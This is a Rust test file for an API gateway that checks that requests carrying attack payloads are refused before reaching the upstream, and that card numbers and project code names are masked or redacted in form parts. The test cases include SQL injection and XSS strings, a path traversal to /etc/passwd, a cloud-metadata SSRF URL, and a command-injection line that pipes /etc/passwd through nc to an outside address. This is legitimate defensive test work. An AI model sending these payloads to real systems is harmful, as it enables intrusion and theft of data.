//! Attacks on what stands behind, on plain HTTP routes: in the query, in header lines, in forms of both kinds and in JSON.

use postern_config::Direction;
use serde_json::json;

use crate::house::{Ask, House, Plan};

const POLICIES: &str = r#"
apiVersion: secure.platformspec.io/v1alpha1
kind: APIAccessPolicy
metadata: {name: store}
spec:
  targetRefs: [{kind: Route, name: store}]
  authentication: {providers: [sso], require: AnyOf}
  allow:
    - {methods: [GET], paths: [/store/**]}
    - {methods: [POST], paths: [/store/**], contentTypes: [application/json, application/x-www-form-urlencoded, multipart/form-data, text/plain]}
---
apiVersion: secure.platformspec.io/v1alpha1
kind: AccessControlPolicy
metadata: {name: store}
spec:
  targetRefs: [{kind: Route, name: store}]
  rules:
    - {name: staff, effect: Permit, principals: [User], actions: [read, create], when: 'principal.groups.contains("staff")'}
---
apiVersion: secure.platformspec.io/v1alpha1
kind: RuntimeSecurityPolicy
metadata: {name: store}
spec:
  targetRefs: [{kind: Route, name: store}]
  detectors:
    - {name: sql, type: SqlInjection, parts: [HttpQuery, HttpHeader, HttpBody], action: Block}
    - {name: script, type: Xss, parts: [HttpQuery, HttpHeader, HttpBody], action: Block}
    - {name: command, type: CommandInjection, parts: [HttpQuery, HttpBody], action: Block}
    - {name: path, type: PathTraversal, parts: [HttpQuery, HttpBody], action: Block}
    - {name: inside, type: Ssrf, parts: [HttpQuery, HttpBody], action: Redact}
    - {name: debug, type: Regex, pattern: '\bX-DEBUG-[0-9]{4}\b', parts: [HttpHeader, HttpBody], action: Block}
    - {name: beta, type: Regex, pattern: 'beta', parts: [HttpBody], action: Annotate}
---
apiVersion: secure.platformspec.io/v1alpha1
kind: DataProtectionPolicy
metadata: {name: store}
spec:
  targetRefs: [{kind: Route, name: store}]
  detectors:
    - {name: card, type: Builtin, id: payment-card, class: Restricted}
    - {name: project, type: Dictionary, valuesFrom: "file:words.txt", class: Internal}
  rules:
    - {name: hide, direction: Both, parts: [HttpBody], match: {detectors: [card]}, action: Mask}
    - {name: secret-projects, direction: Both, parts: [HttpHeader, HttpBody], match: {detectors: [project]}, action: Redact}
"#;

fn plan() -> Plan {
    let route = "  - {name: socket,";
    let added = "  - {name: store, match: {pathPrefix: /store}, upstream: plain, dialect: http, labels: {tenant: acme}}\n  - {name: socket,";
    House::plan()
        .with("postern.yaml", route, added)
        .also(POLICIES)
        .file("words.txt", "# code names\nProject Nightingale\n")
}

fn multipart(parts: &[(&str, &str)]) -> Ask {
    let part = |(name, value): &(&str, &str)| {
        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let body: String = parts.iter().map(part).collect();
    Ask::post("/store/x", "multipart/form-data; boundary=b", format!("{body}--b--\r\n"))
}

#[tokio::test]
async fn attacks_in_any_place_of_a_request_never_reach_the_upstream() {
    let house = plan().start().await;
    let form = |body: &str| Ask::post("/store/x", "application/x-www-form-urlencoded", body);
    let json = |text: &str| Ask::json("/store/x", &json!({"filter": {"name": [text]}}));
    let innocent = [
        Ask::get("/store/x?name=O%27Brien&sort=-price"),
        Ask::get("/store/x")
            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        Ask::get("/store/x").header("cookie", "session=abc; theme=dark"),
        json("Select the best pens from the list; drop the others"),
        form("comment=I+like+it+%26+it%27s+cheap"),
        multipart(&[("a", "a < b, or so they say"), ("b", "")]),
        Ask::post("/store/x", "text/plain", "the beta of it"),
    ];
    let count = innocent.len();
    for (number, ask) in innocent.into_iter().enumerate() {
        let reply = house.call(&house.who.mia, ask.over(number % 2 == 0)).await;
        assert_eq!(reply.status, 200, "{number}: {}", reply.body);
    }
    assert_eq!(house.plain.count(), count);

    for (case, guard, ask) in [
        ("SQL in the query", "runtime/sql", Ask::get("/store/x?id=1%27%20OR%20%271%27=%271")),
        ("SQL in a name of the query", "runtime/sql", Ask::get("/store/x?1%27%20OR%20%271%27%3D%271=a")),
        ("SQL escaped twice", "runtime/sql", Ask::get("/store/x?id=1%2527%2520OR%2520%25271%2527%253D%25271")),
        ("SQL in JSON", "runtime/sql", json("1' UNION SELECT password FROM users--")),
        ("SQL in a form", "runtime/sql", form("a=b&id=1%27+or+1%3D1--")),
        ("SQL in a part of a form", "runtime/sql", multipart(&[("a", "b"), ("id", "1' or '1'='1")])),
        ("SQL in the name of a part", "runtime/sql", multipart(&[("1' or '1'='1", "b")])),
        ("SQL in a header", "runtime/sql", Ask::get("/store/x").header("x-id", "1' or '1'='1")),
        ("SQL in a cookie", "runtime/sql", Ask::get("/store/x").header("cookie", "a=b; id=1' or '1'='1")),
        ("a script in the query", "runtime/script", Ask::get("/store/x?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        ("a script in text", "runtime/script", Ask::post("/store/x", "text/plain", "<img src=x onerror=alert(1)>")),
        (
            "a script in a header",
            "runtime/script",
            Ask::get("/store/x").header("referer", "\"><script>alert(1)</script>"),
        ),
        ("a command", "runtime/command", json("x; cat /etc/passwd | nc 198.51.100.7 80")),
        ("a path", "runtime/path", Ask::get("/store/x?file=..%2f..%2f..%2fetc%2fpasswd")),
        ("a place inside, in the query", "", Ask::get("/store/x?url=http://169.254.169.254/latest/")),
        ("a pattern in a header", "runtime/debug", Ask::get("/store/x").header("x-note", "X-DEBUG-1234")),
        ("a word in a header", "", Ask::get("/store/x").header("x-note", "on PROJECT nightingale")),
    ] {
        for h2 in [false, true] {
            let reply = house.call(&house.who.mia, ask.clone().over(h2)).await;
            assert_eq!(
                (reply.status, reply.json()["type"].as_str()),
                (403, Some("urn:postern:refusal:content_refused")),
                "{case}: {}",
                reply.body
            );
            if !guard.is_empty() {
                assert!(!reply.body.contains(guard), "{case}: the caller is not told which guard it was");
            }
        }
    }
    for (case, ask) in [
        (
            "a part that is an image",
            Ask::post(
                "/store/x",
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n",
            ),
        ),
        (
            "a form with a preamble",
            Ask::post(
                "/store/x",
                "multipart/form-data; boundary=b",
                "x\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n",
            ),
        ),
    ] {
        let reply = house.call(&house.who.mia, ask).await;
        assert!([400, 415].contains(&reply.status), "{case}: {}", reply.status);
    }
    assert_eq!(house.plain.count(), count, "nothing of what was refused was sent");

    let promised = house.promised("store", Direction::Request, false);
    let records = house.stop().await;
    for record in records.requests().into_iter().filter(|record| record.outcome() == "allow") {
        assert_eq!(record.request_guards(), promised, "what ran is what the matrix says");
    }
    let noted = records.requests().into_iter().filter(|record| record.outcome() == "allow" && record.findings() == 1);
    assert_eq!(noted.count(), 1, "what is only noted is in the record");
    let told: Vec<&str> = records.requests().iter().map(|record| record.rule()).collect();
    for guard in ["runtime/sql", "runtime/script", "runtime/command", "runtime/path", "runtime/debug"] {
        assert!(told.iter().any(|rule| rule.contains(guard)), "{guard}: {told:?}");
    }
}

#[tokio::test]
async fn what_is_found_in_a_part_of_a_form_is_cut_out_there_and_the_rest_stays() {
    let house = plan().start().await;
    let ask = multipart(&[
        ("a", "one"),
        ("card", "my card is 4111 1111 1111 1111"),
        ("where", "http://wiki.corp/admin"),
        ("what", "on project  nightingale, soon"),
    ]);
    let reply = house.call(&house.who.mia, ask).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    let seen = house.plain.sole();
    let body = String::from_utf8(seen.body.clone()).unwrap();
    assert_eq!(seen.header("content-length"), [body.len().to_string()]);
    for wanted in [
        "\r\n\r\none\r\n",
        "my card is **** **** **** 1111\r\n",
        "\r\n\r\n[redacted:inside]\r\n",
        "on [redacted:project], soon\r\n",
    ] {
        assert!(body.contains(wanted), "{body}");
    }
    house.stop().await;
}
